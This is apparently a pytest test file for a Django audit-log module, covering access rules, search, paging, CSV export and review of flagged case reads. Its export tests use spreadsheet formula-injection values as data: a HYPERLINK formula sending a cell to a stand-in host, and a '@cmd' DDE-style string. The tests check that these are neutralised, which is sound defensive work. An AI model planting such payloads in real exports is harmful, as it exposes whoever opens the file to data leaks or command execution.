"""The data protection officer's audit pages: search, CSV export, review of flagged access."""

import csv
import datetime
import io
from contextlib import contextmanager
from unittest import mock
from zoneinfo import ZoneInfo

import pytest
from django.contrib.auth.models import Permission
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from cases import audit, services
from cases.audit_views import PAGE_SIZE, guard_cell
from cases.models import AuditAction, AuditEntry
from cooperation.models import Role

from .factories import RoleAssignmentFactory, UserFactory

pytestmark = [
    pytest.mark.django_db,
    pytest.mark.filterwarnings("ignore:No directory at:UserWarning"),
]

CPH = ZoneInfo("Europe/Copenhagen")
SEARCH = reverse("audit:search")
EXPORT = reverse("audit:export")
REVIEW = reverse("audit:review")
HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"Klik")'


@contextmanager
def at(moment: datetime.datetime):
    """Entries written inside get `moment` as their time (created_at is auto_now_add)."""
    with mock.patch.object(timezone, "now", return_value=moment):
        yield


def days_ago(days: int, hour: int = 12) -> datetime.datetime:
    day = timezone.localdate() - datetime.timedelta(days=days)
    return datetime.datetime.combine(day, datetime.time(hour), tzinfo=CPH)


def read(user, case, what="case"):
    """A read of the case page, as case_detail records it."""
    return audit.record_read(user=user, case=case, what=what, purpose="level:full", request=None)


def shown(response, key="page") -> list[AuditEntry]:
    return list(response.context[key].object_list)


def login(client, user):
    client.force_login(user)
    return client


def dpo_user():
    """A data protection officer: no superuser, no role, only the permission."""
    user = UserFactory(username="dpo", is_staff=True)
    user.user_permissions.add(Permission.objects.get(codename="view_auditentry"))
    return user


def export_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


# --- who gets in ----------------------------------------------------------------------------


@pytest.mark.parametrize("url", [SEARCH, EXPORT, REVIEW])
@pytest.mark.parametrize(
    "role",
    ["visitator", "coordinator", "first_contact", "police_contact", "dsc", "follow_up"],
)
def test_roles_in_the_cooperation_get_404(client, world, url, role):
    login(client, getattr(world, role))
    assert client.get(url).status_code == 404
    assert not AuditEntry.objects.filter(what="audit_export").exists()


@pytest.mark.parametrize("url", [SEARCH, EXPORT, REVIEW])
def test_staff_without_the_permission_get_404(client, world, url):
    login(client, UserFactory(username="staff", is_staff=True))
    assert client.get(url).status_code == 404


@pytest.mark.parametrize("url", [SEARCH, EXPORT, REVIEW])
def test_anonymous_visitors_are_sent_to_login(client, world, url):
    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


@pytest.mark.parametrize("url", [SEARCH, EXPORT, REVIEW])
def test_the_data_protection_officer_gets_in_with_the_permission_alone(client, world, url):
    assert login(client, dpo_user()).get(url).status_code == 200


def test_superuser_sees_the_search_page_with_labelled_filters(client, world):
    world.refer()
    response = login(client, world.admin).get(SEARCH)
    html = response.content.decode()
    assert response.status_code == 200
    assert html.count("<h1") == 1
    for field in ["person", "case", "action", "date_from", "date_to", "flagged_only"]:
        assert f'for="id_{field}"' in html
    assert '<form method="get"' in html
    assert "<caption" in html and 'scope="col"' in html


# --- search ---------------------------------------------------------------------------------


def test_search_by_person_shows_that_persons_entries_only(client, world):
    case = world.active()
    read(world.coordinator, case)
    read(world.visitator, case)
    response = login(client, world.admin).get(SEARCH, {"person": "coordin"})
    entries = shown(response)
    assert entries
    assert {e.username for e in entries} == {"coordinator"}
    assert (
        response.context["page"].paginator.count
        == AuditEntry.objects.filter(username__icontains="coordin").count()
    )


def test_search_by_case_shows_that_cases_entries_only(client, world):
    first = world.active()
    second = world.active(full_name="Anne Berg")
    read(world.coordinator, second)
    response = login(client, world.admin).get(SEARCH, {"case": f" {first.reference.lower()} "})
    entries = shown(response)
    assert {e.case_reference for e in entries} == {first.reference}
    assert len(entries) == AuditEntry.objects.filter(case=first).count()
    assert second.reference not in response.content.decode()


def test_search_by_period_includes_both_whole_days(client, world):
    case = world.refer()
    moments = {
        "before": datetime.datetime(2026, 3, 1, 23, 59, tzinfo=CPH),
        "first_day": datetime.datetime(2026, 3, 2, 0, 1, tzinfo=CPH),
        "last_day": datetime.datetime(2026, 3, 5, 23, 59, tzinfo=CPH),
        "after": datetime.datetime(2026, 3, 6, 0, 1, tzinfo=CPH),
    }
    for label, moment in moments.items():
        with at(moment):
            read(world.visitator, case, label)
    response = login(client, world.admin).get(
        SEARCH, {"date_from": "2026-03-02", "date_to": "2026-03-05"}
    )
    assert [e.what for e in shown(response)] == ["last_day", "first_day"]


def test_search_by_action_and_flagged_only(client, world):
    case = world.active()
    services.disqualify(
        actor=world.visitator, case=case, user=world.deputy_visitator, reason="Kender borgeren"
    )
    login(client, world.deputy_visitator).get(case.get_absolute_url())
    client.logout()
    login(client, world.admin)
    flagged = shown(client.get(SEARCH, {"flagged_only": "on"}))
    assert [(e.username, e.action) for e in flagged] == [("deputy", AuditAction.DENIED)]
    created = shown(client.get(SEARCH, {"action": AuditAction.CREATE}))
    assert created and {e.action for e in created} == {AuditAction.CREATE}


def test_rows_show_the_columns_and_link_nothing(client, world):
    case = world.active()
    read(world.coordinator, case)
    response = login(client, world.admin).get(SEARCH, {"case": case.reference})
    html = response.content.decode()
    table = html[html.index("<table") : html.index("</table>")]
    assert "<a " not in table
    assert case.reference in table
    assert "Primær koordinator" in table  # role labels, not codes
    assert case.full_name not in html


def _table(response) -> str:
    html = response.content.decode()
    return html[html.index("<table") : html.index("</table>")]


def test_what_and_purpose_are_in_words_with_the_code_below(client, world):
    case = world.active()
    audit.record_read(user=world.coordinator, case=case, what="form:assessment", request=None)
    audit.record_list_read(
        user=world.visitator, name="triage_dashboard", purpose="visitator", request=None
    )
    table = _table(login(client, world.admin).get(SEARCH))
    assert "Afdækningen af situationen<br><small><code>form:assessment</code></small>" in table
    assert (
        "Medarbejderen med ansvaret for sagen<br><small><code>responsible</code></small>" in table
    )
    assert "<code>list:triage_dashboard</code>" in table
    assert "Listen »Visitation« (sager til visitation)" in table


def test_a_code_without_words_is_shown_as_the_code(client, world):
    audit.record(user=world.admin, action=AuditAction.VIEW, what="ukendt_kode")
    table = _table(login(client, world.admin).get(SEARCH))
    assert '<td role="cell" data-label="Hvad"><code>ukendt_kode</code></td>' in table
    assert '<td role="cell" data-label="Formål">-</td>' in table  # no purpose


def test_the_user_is_shown_by_full_name_with_the_username(client, world):
    case = world.active()
    world.coordinator.first_name, world.coordinator.last_name = "Mette", "Østergaard"
    world.coordinator.save()
    read(world.coordinator, case)
    table = _table(login(client, world.admin).get(SEARCH, {"person": "coordinator"}))
    assert 'data-label="Bruger">Mette Østergaard<br><small>coordinator</small></td>' in table


def test_an_entry_of_a_deleted_user_keeps_its_username(client, world):
    """The user is gone (the foreign key has no constraint): the username the entry was
    written with is all there is."""
    AuditEntry.objects.create(user_id=987654, username="tidligere", action="view", what="case")
    response = login(client, world.admin).get(SEARCH, {"person": "tidligere"})
    assert [e.username for e in shown(response)] == ["tidligere"]
    assert '<td role="cell" data-label="Bruger">tidligere</td>' in _table(response)


def test_the_case_reference_hint_is_a_format_not_the_test_prefix(client, world):
    html = login(client, world.admin).get(SEARCH).content.decode()
    assert "ABC-2026-0042" in html
    assert "TST-" not in html


def test_an_invalid_period_is_explained_and_shows_no_rows(client, world):
    response = login(client, world.admin).get(
        SEARCH, {"date_from": "2026-03-05", "date_to": "2026-03-01"}
    )
    html = response.content.decode()
    assert response.status_code == 200
    assert response.context["page"] is None
    assert 'id="error-summary"' in html and 'href="#id_date_to"' in html


def test_search_pages_by_50(client, world):
    case = world.refer()
    for n in range(PAGE_SIZE + 5):
        read(world.visitator, case, f"r{n}")
    login(client, world.admin)
    first = client.get(SEARCH, {"person": "visitator"})
    assert len(shown(first)) == PAGE_SIZE
    assert "side=2" in first.content.decode()
    second = client.get(SEARCH, {"person": "visitator", "side": 2})
    assert len(shown(second)) == AuditEntry.objects.filter(username="visitator").count() - 50


def _search_queries(client, url) -> int:
    with CaptureQueriesContext(connection) as queries:
        assert client.get(url).status_code == 200
    return len(queries)


@pytest.mark.parametrize("user", ["admin", "dpo"])
def test_search_query_count_does_not_grow_with_rows(client, world, user):
    reader = world.admin if user == "admin" else dpo_user()
    case = world.refer()
    login(client, reader)
    client.get(SEARCH)  # session and language settled

    def grow_to(n):
        while AuditEntry.objects.count() < n:
            read(world.visitator, case)

    grow_to(5)
    few = _search_queries(client, SEARCH)
    grow_to(60)
    many = _search_queries(client, SEARCH)
    assert few == many
    assert len(shown(client.get(SEARCH))) == PAGE_SIZE


def test_review_query_count_does_not_grow_with_rows(client, world):
    case = world.active()
    login(client, world.admin)
    client.get(REVIEW)

    def reads_by_outsiders(n):
        for _ in range(n):
            read(world.other_visitator, case)
            audit.record(
                user=world.deputy_visitator,
                action=AuditAction.DENIED,
                case=case,
                what="case",
                flagged=True,
            )

    reads_by_outsiders(5)
    few = _search_queries(client, REVIEW)
    reads_by_outsiders(55)
    many = _search_queries(client, REVIEW)
    assert few == many


@pytest.mark.parametrize("url", [SEARCH, REVIEW])
def test_the_users_names_do_not_cost_a_query_a_row(
    client, world, django_assert_max_num_queries, url
):
    """Each row by another user, with a name: the names come with the rows (one join)."""
    case = world.active()
    login(client, world.admin)
    client.get(url)  # session and language settled

    def reads_by_new_users(n):
        for _ in range(n):
            read(UserFactory(), case)

    reads_by_new_users(2)
    few = _search_queries(client, url)
    reads_by_new_users(40)
    with django_assert_max_num_queries(few):
        response = client.get(url)
    newest = AuditEntry.objects.latest("created_at", "id").user
    assert newest.get_full_name() and newest.get_full_name() in _table(response)


# --- export ---------------------------------------------------------------------------------


def test_guard_cell_neutralises_spreadsheet_formulas():
    for dangerous in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", HYPERLINK]:
        assert guard_cell(dangerous) == "'" + dangerous
    for harmless in ["case", "TST-2026-0001", "::1", "", None, "Søren = Mette"]:
        assert guard_cell(harmless) == ("" if harmless is None else harmless)


def test_export_is_csv_for_danish_excel_with_formulas_guarded(client, world):
    case = world.active()
    evil = UserFactory(username=HYPERLINK[:150])
    audit.record(user=evil, action=AuditAction.VIEW, case=case, what=HYPERLINK[:100])
    audit.record(user=world.coordinator, action=AuditAction.VIEW, case=case, what="@cmd|' /C'")
    response = login(client, world.admin).get(EXPORT)
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="revisionsspor-')
    rows = export_rows(response)
    header, body = rows[0], rows[1:]
    assert header[:6] == ["Tidspunkt", "Bruger", "Rolle", "Handling", "Sagsnummer", "Hvad"]
    assert all(len(row) == len(header) for row in body)
    evil_row = next(row for row in body if row[1].startswith("'=HYPERLINK"))
    assert evil_row[1] == "'" + HYPERLINK
    assert evil_row[5] == "'" + HYPERLINK
    assert any(row[5] == "'@cmd|' /C'" for row in body)
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
    )


def test_export_uses_the_same_filters_and_is_itself_audited(client, world):
    case = world.active()
    for reader in [world.visitator, world.coordinator]:
        read(reader, case)
    response = login(client, world.admin).get(EXPORT, {"person": "coordinator"})
    body = export_rows(response)[1:]
    assert body and {row[1] for row in body} == {"coordinator"}
    entry = AuditEntry.objects.get(what="audit_export")
    assert entry.user == world.admin
    assert entry.action == AuditAction.DOWNLOAD
    assert entry.path == EXPORT
    assert entry.ip_address == "127.0.0.1"


def test_export_keeps_the_codes_and_the_username(client, world):
    """The pages show words; the export is for searching and sorting, so it keeps the codes."""
    case = world.active()
    audit.record_read(user=world.coordinator, case=case, what="form:assessment", request=None)
    response = login(client, world.admin).get(EXPORT, {"person": "coordinator"})
    [row] = export_rows(response)[1:]
    assert (row[1], row[5], row[7]) == ("coordinator", "form:assessment", "responsible")


def test_export_with_invalid_filters_goes_back_to_the_search(client, world):
    response = login(client, world.admin).get(EXPORT, {"date_from": "i går"})
    assert response.status_code == 302
    assert response["Location"].startswith(SEARCH)
    assert not AuditEntry.objects.filter(what="audit_export").exists()


def test_search_page_offers_the_export_of_the_same_search(client, world):
    html = login(client, world.admin).get(SEARCH, {"person": "coord"}).content.decode()
    assert f'href="{EXPORT}?person=coord"' in html


# --- review ---------------------------------------------------------------------------------


@pytest.fixture
def reviewed_case(world, client):
    """An active case; the coordinator and the visitator read it through the pages, a
    disqualified deputy tries to, and a visitator of another municipality reads it."""
    case = world.active(police=True)
    services.disqualify(
        actor=world.visitator, case=case, user=world.deputy_visitator, reason="Kender borgeren"
    )
    for user in [world.coordinator, world.visitator, world.police_contact]:
        assert login(client, user).get(case.get_absolute_url()).status_code == 200
    assert login(client, world.deputy_visitator).get(case.get_absolute_url()).status_code == 404
    read(world.other_visitator, case)
    client.logout()
    return case


def test_review_lists_the_disqualified_attempt_and_the_outsiders_read(client, world, reviewed_case):
    response = login(client, world.admin).get(REVIEW)
    assert response.status_code == 200
    flagged = shown(response, "flagged")
    # The outsider's read is flagged when it is written (no access route), the attempt too.
    assert sorted((e.username, e.action) for e in flagged) == [
        ("deputy", AuditAction.DENIED),
        ("othervisitator", AuditAction.VIEW),
    ]
    outsiders = shown(response, "outsiders")
    assert [(e.username, e.case_reference) for e in outsiders] == [
        ("othervisitator", reviewed_case.reference)
    ]
    html = response.content.decode()
    assert "othervisitator" in html and html.count("<h1") == 1


def test_reads_by_the_cases_people_are_not_for_review(client, world, reviewed_case):
    response = login(client, world.admin).get(REVIEW)
    readers = {e.username for e in shown(response, "outsiders")}
    assert (
        AuditEntry.objects.filter(
            username__in=["coordinator", "visitator", "police"], action=AuditAction.VIEW
        ).count()
        == 3
    )
    assert not readers & {"coordinator", "visitator", "police"}


def test_review_downloads_count_as_reads_and_own_exports_do_not(client, world):
    case = world.active()
    audit.record(
        user=world.outsider_coordinator,
        action=AuditAction.DOWNLOAD,
        case=case,
        what="document:case_summary",
    )
    login(client, world.admin).get(EXPORT)
    outsiders = shown(client.get(REVIEW), "outsiders")
    assert [(e.username, e.action) for e in outsiders] == [("othercoord", AuditAction.DOWNLOAD)]


def test_review_period_defaults_to_30_days_and_can_be_chosen(client, world):
    case = world.active()
    with at(days_ago(40)):
        read(world.other_visitator, case, "old")
    with at(days_ago(3)):
        read(world.other_visitator, case, "new")
    login(client, world.admin)
    assert [e.what for e in shown(client.get(REVIEW), "outsiders")] == ["new"]
    start = (timezone.localdate() - datetime.timedelta(days=45)).isoformat()
    end = (timezone.localdate() - datetime.timedelta(days=35)).isoformat()
    chosen = client.get(REVIEW, {"date_from": start, "date_to": end})
    assert [e.what for e in shown(chosen, "outsiders")] == ["old"]


def test_a_visitator_who_has_since_left_is_not_flagged_for_earlier_reads(client, world):
    case = world.active()
    leaver = UserFactory(username="leaver")
    RoleAssignmentFactory(
        user=leaver,
        organisation=world.municipality,
        role=Role.VISITATOR,
        valid_to=timezone.localdate() - datetime.timedelta(days=5),
    )
    with at(days_ago(10)):
        read(leaver, case, "while_visitator")
    with at(days_ago(2)):
        read(leaver, case, "after_leaving")
    outsiders = shown(login(client, world.admin).get(REVIEW), "outsiders")
    assert [e.what for e in outsiders] == ["after_leaving"]


def test_review_with_an_invalid_period_explains_and_lists_nothing(client, world):
    response = login(client, world.admin).get(
        REVIEW, {"date_from": "2026-03-05", "date_to": "2026-03-01"}
    )
    assert response.status_code == 200
    assert 'id="error-summary"' in response.content.decode()
    assert "flagged" not in response.context
